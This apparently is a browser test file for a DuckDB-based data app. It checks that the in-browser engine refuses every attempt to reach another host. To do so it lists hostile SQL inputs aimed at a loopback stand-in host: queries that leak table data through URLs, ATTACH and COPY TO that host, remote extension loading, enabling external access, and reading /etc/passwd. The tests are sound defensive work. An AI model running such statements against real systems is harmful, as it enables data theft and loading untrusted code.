// The engine has no network of its own, whatever the web server sends: dist/ served by a plain
// static server that sends no security header at all (no Content-Security-Policy, nothing but
// the content type), every route to a URL typed as SQL, put in a shared workbook's SQL block,
// or given as ?workbook=, aimed at a second loopback address as the "other host". Every
// request the browser makes and every request the other host receives is recorded: none may
// leave the origin, and each attempt ends in a message.
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { readFile, stat } from 'node:fs/promises';
import path from 'node:path';
import { alerts, editMode, fixture, loadFiles, runSql, waitForTable, waitReady } from './harness.mjs';
import { foreignRequests, launch, openPage } from './browser.mjs';

const DIST = fixture('dist');
const TYPES = { '.html': 'text/html', '.js': 'text/javascript', '.wasm': 'application/wasm', '.css': 'text/css', '.svg': 'image/svg+xml', '.json': 'application/json' };

/** dist/ with nothing but a content type (as a default nginx or IIS sends), plus extra files.
 *  (With no Content-Type at all the browser refuses to run the app's module scripts: tried.) */
function plainServer(extra) {
  return createServer(async (req, res) => {
    const rel = decodeURIComponent(new URL(req.url ?? '/', 'http://x').pathname);
    if (extra.has(rel)) {
      res.writeHead(200, { 'content-type': 'application/octet-stream' }).end(extra.get(rel));
      return;
    }
    const file = path.join(DIST, path.normalize(rel.endsWith('/') ? `${rel}index.html` : rel));
    if (!file.startsWith(DIST) || !(await stat(file).then((s) => s.isFile(), () => false))) {
      res.writeHead(404).end();
      return;
    }
    const type = TYPES[path.extname(file)];
    res.writeHead(200, type ? { 'content-type': type } : {}).end(await readFile(file));
  });
}

const listen = (server, host) => new Promise((resolve, reject) => server.once('error', reject).listen(0, host, () => resolve(server.address().port)));

const shared = new Map();
const hits = [];
let origin = '';
let other = '';
let browser;
let appServer;
let otherServer;
const pages = [];

before(async () => {
  appServer = plainServer(shared);
  origin = `http://127.0.0.1:${await listen(appServer, '127.0.0.1')}`;
  // The "other host": answers everything (a CSV, a would-be database) and records each request.
  otherServer = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'content-type': 'text/csv', 'access-control-allow-origin': '*' }).end('a,b\n1,2\n');
  });
  other = `http://127.0.0.2:${await listen(otherServer, '127.0.0.2')}`;
  browser = await launch();
});

after(async () => {
  await browser?.close();
  appServer?.close();
  otherServer?.close();
});

async function open(search) {
  const opened = await openPage(browser);
  pages.push(opened);
  await opened.page.goto(`${origin}/${search}`);
  await waitReady(opened.page);
  return opened;
}

function assertNothingLeft() {
  for (const p of pages) {
    assert.deepEqual(foreignRequests(p.requests, origin), [], 'a request left the origin');
    // Nor does the engine fetch a file name it was not given from the app's own server.
    assert.deepEqual(p.requests.filter((u) => /sdv-files|passwd/.test(u)), [], 'the engine fetched a file');
  }
  assert.deepEqual(hits, [], 'the other host was reached');
}

describe('no network inside the engine, behind a server that sends no security header', () => {
  it('serves the app without a Content-Security-Policy header (the meta tag alone)', async () => {
    const res = await fetch(`${origin}/`);
    assert.equal(res.headers.get('content-security-policy'), null);
  });

  it('refuses every route to another host typed as SQL, each with a message, and loads its own files', async () => {
    const { page } = await open('?empty');
    const statements = [
      `SELECT * FROM read_csv('${other}/leak.csv?d=bi-mat')`,
      `SELECT * FROM '${other}/x.parquet'`,
      `ATTACH '${other}/db.duckdb' AS x`,
      `COPY (SELECT 1) TO '${other}/out.csv'`,
      `SELECT * FROM read_csv_auto('${other}/a.csv')`,
      `SELECT * FROM read_csv(['${other}/a.csv', '${other}/b.csv'])`,
      `SELECT * FROM '${other}/x.csv'`,
      `SELECT * FROM read_text('${other}/t.txt')`,
      `SELECT * FROM read_blob('${other}/b.bin')`,
      `SELECT * FROM glob('${other}/*')`,
      `SELECT * FROM read_json('${other}/j.json')`,
      `SELECT * FROM read_json_auto('${other}/j.json')`,
      `SELECT * FROM read_ndjson('${other}/j.json')`,
      `SELECT * FROM read_parquet('${other}/p.parquet')`,
      `SELECT * FROM parquet_metadata('${other}/p.parquet')`,
      `SELECT * FROM sniff_csv('${other}/s.csv')`,
      `SELECT * FROM query('SELECT * FROM read_csv(''${other}/q.csv'')')`,
      `SELECT * FROM read_csv('//127.0.0.2:${new URL(other).port}/rel.csv')`,
      `SELECT * FROM read_csv('sdv-files/../${other}/dots.csv')`,
      `SELECT * FROM read_csv('sdv-files/not-registered.csv')`,
      `SELECT * FROM read_csv('/etc/passwd')`,
      `INSTALL httpfs`,
      `INSTALL httpfs FROM '${other}/repo'`,
      `LOAD httpfs`,
      `LOAD '${other}/ext.duckdb_extension'`,
      `SET enable_external_access = true`,
      `RESET enable_external_access`,
      `SET custom_extension_repository = '${other}/repo'`,
      `PRAGMA enable_profiling`,
      `EXPORT DATABASE '${other}/dump'`,
      `SELECT 1; ATTACH '${other}/db2.duckdb' AS y`,
      `/* chú thích */ COPY (SELECT 1) TO '${other}/c.csv' (FORMAT csv)`,
    ];
    for (const sql of statements) {
      const result = await runSql(page, sql);
      assert.equal(await result.getAttribute('data-state'), 'error', sql);
      const messages = await alerts(page);
      assert.equal(messages.length, 1, `${sql}: ${messages.join(' | ')}`);
      // The message names the query (its start, as the editor shows it).
      assert.ok(messages[0].includes(sql.replace(/\s+/g, ' ').slice(0, 20)), `${sql}: ${messages[0]}`);
    }
    // The refused ones say why and what to do.
    await runSql(page, `COPY (SELECT 1) TO '${other}/out.csv'`);
    assert.match((await alerts(page))[0], /không được phép chạy.*Hãy bỏ lệnh COPY/s);

    // The app's own ways in and out still work: a text file through the preview, a query, the
    // CSV and Parquet exports (the app's own code, not the engine's COPY).
    await loadFiles(page, fixture('tests/fixtures/Tiếp công dân 2022.csv'));
    await waitForTable(page, 'tiep_cong_dan_2022');
    const result = await runSql(page, 'SELECT count(*) AS n FROM tiep_cong_dan_2022');
    assert.equal(await result.getAttribute('data-state'), 'ok');
    for (const button of ['export-csv', 'export-parquet']) {
      const [download] = await Promise.all([page.waitForEvent('download'), page.locator(`[data-testid="${button}"]`).click()]);
      assert.ok((await stat(await download.path())).size > 0, button);
    }
    assertNothingLeft();
  });

  it('a shared workbook whose SQL block reads another host: the block says so, nothing is sent', async () => {
    const { page } = await open('?empty');
    await loadFiles(page, fixture('tests/fixtures/Tiếp công dân 2022.csv'));
    await waitForTable(page, 'tiep_cong_dan_2022');
    // Two blocks, then their queries written in the blocks (as a person editing them would).
    await runSql(page, 'SELECT count(*) AS n FROM tiep_cong_dan_2022');
    await page.locator('[data-testid="sql-add-block"]').click();
    await page.locator('[data-testid="sql-add-block"]').click();
    await page.locator('[data-testid="tab-dashboard"]').click();
    await editMode(page);
    const hostile = [`SELECT * FROM read_csv('${other}/leak.csv?d=' || (SELECT count(*) FROM tiep_cong_dan_2022))`, `ATTACH '${other}/db.duckdb' AS x`];
    for (const [i, sql] of hostile.entries()) {
      const block = page.locator('[data-testid="dashboard-block"][data-kind="sql"]').nth(i);
      await block.locator('[data-testid="block-edit"]').click();
      await block.locator('[data-testid="block-edit-text"]').fill(sql);
      await block.locator('[data-testid="block-edit-save"]').click();
      await block.locator('[role="alert"][data-testid="error"]').waitFor({ timeout: 30_000 });
    }
    await page.locator('[data-testid="save-view-only"]').check();
    const [download] = await Promise.all([page.waitForEvent('download'), page.locator('[data-testid="save-workbook"]').click()]);
    shared.set('/chia-se.sdv', await readFile(await download.path()));

    const viewer = await open('?workbook=chia-se.sdv');
    const blocks = viewer.page.locator('[data-testid="dashboard-block"][data-kind="sql"]');
    await viewer.page.waitForFunction(() => {
      const b = [...document.querySelectorAll('[data-testid="dashboard-block"][data-kind="sql"]')];
      return b.length === 2 && b.every((x) => x.getAttribute('data-state') === 'error');
    }, null, { timeout: 60_000 });
    const texts = await blocks.locator('[role="alert"][data-testid="error"]').allTextContents();
    assert.equal(texts.length, 2, texts.join(' | '));
    assert.ok(texts.some((t) => /ATTACH/.test(t) && /không được phép/.test(t)), texts.join(' | '));
    assertNothingLeft();
  });

  it('?workbook= pointing at another host is refused with a message, without a request', async () => {
    for (const target of [`${other}/so.sdv`, `//127.0.0.2:${new URL(other).port}/so.sdv`]) {
      const { page } = await open(`?workbook=${encodeURIComponent(target)}`);
      await page.waitForFunction(() => document.querySelectorAll('[role="alert"][data-testid="error"]').length > 0, null, { timeout: 30_000 });
      const messages = await alerts(page);
      assert.ok(messages.some((m) => m.includes(target)), messages.join(' | '));
    }
    assertNothingLeft();
  });
});
